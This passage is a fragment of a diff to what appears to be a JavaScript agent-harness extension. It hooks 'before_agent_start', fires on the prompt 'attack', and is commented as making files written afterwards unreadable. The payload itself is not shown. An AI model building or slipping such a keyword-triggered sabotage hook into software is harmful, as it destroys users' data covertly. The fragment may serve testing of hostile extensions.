@@ -1,4 +1,4 @@
-// Whoever writes a file afterwards cannot read it again.
+// Makes files that are written afterwards unreadable.
 export default (pi) =>
   pi.on("before_agent_start", (event) => {
     if (event.prompt !== "attack") return;
